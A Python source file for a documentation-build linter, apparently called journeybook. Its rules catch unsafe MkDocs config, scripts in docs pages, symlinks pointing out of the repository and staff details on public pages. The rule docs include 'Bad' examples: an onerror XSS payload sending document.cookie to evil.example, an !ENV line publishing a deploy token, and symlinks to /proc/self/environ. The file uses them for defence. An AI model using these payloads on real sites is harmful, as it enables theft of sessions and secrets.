"""What a pull request must not slip into a build: code, files from outside, people's details in public pages.

The first four come from reading the repository (walk.py, trust.py), not from a check over the playbook; their
severity cannot be lowered in journeybook.yaml, because a pull request can change that file too.
"""

from __future__ import annotations

import re
from collections.abc import Iterator

from ..findings import Finding, Location, Severity
from .base import RuleContext, documented, rule

UNSAFE_CONFIG = documented(
    "unsafe-config",
    Severity.ERROR,
    "mkdocs.yml would run code or read the build machine: hooks, Python tags, !ENV, other plugins, INHERIT or "
    "snippets outside the repository",
    """
    Why: `journeybook build` runs MkDocs with the repository's mkdocs.yml. A pull
    request that adds `hooks:`, a `!!python/...` tag, an unknown plugin or
    Markdown extension runs its own code on the build machine; `!ENV` publishes
    an environment variable (a deploy token); `INHERIT` or `pymdownx.snippets`
    reaching outside the repository publishes the machine's files. `check`
    reads mkdocs.yml without executing it and reports each of these.

    Bad:
    ```yaml
    # mkdocs.yml
    hooks: [hooks/publish.py]
    copyright: !ENV DEPLOY_TOKEN
    ```

    Good:
    ```yaml
    # mkdocs.yml
    copyright: Harbor Mutual
    plugins: [search]
    ```

    Fix: remove it from mkdocs.yml; if the repository's maintainers want it, they build with `--trust-config`.
""",
)

UNSAFE_DOCS = documented(
    "unsafe-docs",
    Severity.ERROR,
    "a hand-written page in docs/ with a script or event handler, or a docs/ file that would replace the theme's",
    """
    Why: pages in docs/ are published as they are, on the staff site and, when
    marked `audience: public`, on the customers' site. A `<script>`, an
    `onerror=` attribute or a file named like the theme's JavaScript
    (docs/assets/javascripts/bundle.*.min.js) would run on every reader's
    browser. journeybook removes such HTML from the site; the finding makes the
    pull request say so before it is merged.

    Bad:
    ```yaml
    # docs/welcome.md
    <img src=x onerror="fetch('https://evil.example/?'+document.cookie)">
    ```

    Good:
    ```yaml
    # docs/welcome.md
    ![Our office](office.png)
    ```

    Fix: write the page without scripts or event handlers; keep your files out of assets/javascripts/,
    assets/stylesheets/ and assets/journeybook/.
""",
)

SYMLINK_OUTSIDE = documented(
    "symlink-outside",
    Severity.ERROR,
    "a symbolic link in the playbook or docs/ that leads out of it",
    """
    Why: a link such as `docs/env.txt -> /proc/self/environ` or
    `policies/z.yaml -> /dev/zero` would publish the build machine's secrets or
    hang the check. journeybook never follows a link out of the folder it reads;
    the finding says which file was left out.

    Bad:
    ```yaml
    # policies/shared.yaml is a symbolic link to /etc/company/policies.yaml
    ```

    Good:
    ```yaml
    # policies/shared.yaml is a file of the repository
    ```

    Fix: put the file itself in the repository instead of a link to it.
""",
)

SKIPPED_PATH = documented(
    "skipped-path",
    Severity.ERROR,
    "a file or folder that could not be read: unreadable, a linked folder, a device or a pipe",
    """
    Why: a folder journeybook cannot read, a linked folder it does not follow or
    a file that is not a regular file would otherwise be skipped in silence, and
    a broken journey inside it would pass the check. Each one is a finding, and
    references into an unread file are not reported as unknown until it can be
    read.

    Bad:
    ```yaml
    # journeys/claims is a symbolic link to ../claims-journeys
    ```

    Good:
    ```yaml
    # journeys/claims/ is a folder of the playbook, readable by the build
    ```

    Fix: give the build read access, move a linked folder into place, or delete what is not a regular file.
""",
)

TRUST_LOAD_RULES = [UNSAFE_CONFIG, UNSAFE_DOCS, SYMLINK_OUTSIDE, SKIPPED_PATH]


@rule(
    "public-names-person",
    Severity.ERROR,
    "public content names a person from org.yaml (name, email or phone)",
    # the docstring below is the documentation
)
def public_names_person(ctx: RuleContext) -> Iterator[Finding]:
    """Why: `audience: public` questions and journeys are published to customers.
    A colleague's name, email address or phone number typed into a public
    `say`, `ask` or `confirm` puts that person's details on the open web, and
    customers then call them directly instead of the department.

    Bad:
    ```yaml
    audience: public
    say: Call Dana Lee on +1 555 0142 to arrange a return.
    ```

    Good:
    ```yaml
    audience: public
    say: Call Customer Care to arrange a return.
    ```

    Fix: name the department or channel instead of the person, or make the content `audience: staff`.
    """
    people = _People(ctx)
    if not people.any:
        return
    book = ctx.playbook
    for question in book.questions.values():
        if question.audience != "public":
            continue
        scope = ("question", question.id)
        texts = [(question.ask, question.src.loc("ask"))]
        texts += [(text, question.src.loc("also_asked", n)) for n, text in enumerate(question.also_asked)]
        for answer in question.answers:
            texts += [(answer.say, answer.src.loc("say")), (answer.decision, answer.src.loc("decision"))]
        yield from _scan(texts, people, f'public question "{question.id}"', scope)
    for journey in book.journeys.values():
        if journey.audience != "public":
            continue
        texts = [(getattr(journey, name) or "", journey.src.loc(name)) for name in ("title", "problem", "outcome")]
        for step in journey.steps:
            texts += [(step.title or "", step.src.loc("title")), (step.confirm or "", step.src.loc("confirm"))]
        yield from _scan(texts, people, f'public journey "{journey.id}"', ("journey", journey.id))


_WORD = re.compile(r"\w+(?:['’-]\w+)*")
_EMAIL = re.compile(r"[\w.+-]+@[\w-]+(?:\.[\w-]+)+")
_PHONE = re.compile(r"\+?\d[\d \t().-]{4,}\d")
_LOCAL_DIGITS = 7  # "+1 555 0142" is typed "555 0142": compare the local number


class _People:
    """Every person's name (as words), email and phone, indexed so that one pass over a text finds them all:
    a check over 10,000 public questions and 1,000 people must not try each person on each text."""

    def __init__(self, ctx: RuleContext) -> None:
        self.names: dict[str, list[tuple[tuple[str, ...], str]]] = {}  # first word → (all words, label)
        self.emails: dict[str, str] = {}
        self.phones: dict[str, str] = {}
        for person in ctx.playbook.people.values():
            words = tuple(_WORD.findall(person.name.casefold()))
            if words and len(" ".join(words)) >= 3:
                self.names.setdefault(words[0], []).append((words, f"name of {person.id}"))
            if person.email and "@" in person.email:
                self.emails[person.email.strip().casefold()] = f"email address of {person.id}"
            digits = re.sub(r"\D", "", person.phone or "")[-_LOCAL_DIGITS:]
            if len(digits) >= 6:
                self.phones[digits] = f"phone number of {person.id}"
        self.any = bool(self.names or self.emails or self.phones)

    def named(self, text: str) -> list[str]:
        """The labels of what `text` gives away, in the order name, email, phone."""
        found: list[str] = []
        words = _WORD.findall(text.casefold())
        for start, word in enumerate(words):
            for name, label in self.names.get(word, ()):
                if tuple(words[start : start + len(name)]) == name and label not in found:
                    found.append(label)
        if self.emails and "@" in text:
            found += [self.emails[e] for e in _EMAIL.findall(text.casefold()) if e in self.emails]
        if self.phones:
            for run in _PHONE.findall(text):
                label = self.phones.get(re.sub(r"\D", "", run)[-_LOCAL_DIGITS:])
                if label:
                    found.append(label)
        return list(dict.fromkeys(found))


def _scan(texts, people: _People, what: str, scope: tuple[str, str]) -> Iterator[Finding]:
    for text, location in texts:
        for label in people.named(text) if text else ():
            yield Finding(
                "public-names-person",
                f"{what} gives the {label}, and public pages are on the open web: name the department or "
                "channel instead, or make the content `audience: staff`",
                Location(location.file, location.line, location.column),
                scope=scope,
            )
